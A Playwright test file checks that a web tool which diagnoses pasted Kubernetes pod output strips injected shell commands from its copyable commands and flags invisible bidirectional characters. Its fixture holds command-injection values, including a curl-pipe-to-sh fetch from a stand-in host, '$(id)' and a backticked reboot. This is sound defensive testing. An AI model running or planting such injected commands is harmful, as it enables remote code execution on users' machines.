// A paste written by an attacker: names that are shell commands, a log line with bidirectional
// controls. Every command the page lets the user copy is free of the payload, the kept
// placeholders say why, and the evidence line says it holds invisible characters.
import { test, expect } from '@playwright/test';
import { APP_URL } from '../../playwright.config';
import { pasteText, reportRendered } from './helpers';
import { describePod, SANDBOX_EVENT } from '../engine/hostile/pastes';

const NAME = 'web-1; curl -s https://evil.example/x.sh | sh; #';
const PASTE = describePod({
  name: NAME,
  namespace: 'shop$(id)',
  node: 'cn-hangzhou.10.0.3.19`reboot`',
  event: SANDBOX_EVENT.replace('deadline exceeded', 'deadline \u202eexceeded'),
});

test('hostile names never reach a copied command; invisible characters are flagged', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto(APP_URL);
  await expect(page.getByTestId('engine-status')).toHaveText('Engine: ready');
  await page.getByRole('heading', { name: 'Input' }).click();
  await pasteText(page, PASTE);
  await expect(page.getByTestId('verdict')).toBeVisible({ timeout: 15_000 });
  await reportRendered(page);

  const buttons = page.getByRole('button', { name: /^Copy command/ });
  const n = await buttons.count();
  expect(n).toBeGreaterThan(3);
  const copied: string[] = [];
  for (let i = 0; i < n; i++) {
    const b = buttons.nth(i);
    if (!(await b.isVisible())) continue;
    await b.click();
    copied.push(await page.evaluate(() => navigator.clipboard.readText()));
  }
  expect(copied.length).toBeGreaterThan(3);
  for (const c of copied) {
    for (const bad of ['curl', 'evil.example', '$(id)', '`reboot`', ';', '\u202e']) expect(c, c).not.toContain(bad);
  }
  expect(copied.some((c) => c.includes('<pod>'))).toBe(true);
  await expect(page.getByTestId('placeholder-kept').first()).toContainText(/Left as <(pod|namespace|node)>/);

  const flagged = page.getByTestId('evidence-invisible');
  await expect(flagged.first()).toContainText('invisible characters');
  await expect(page.getByTestId('evidence').first()).toContainText('<U+202E>');
});
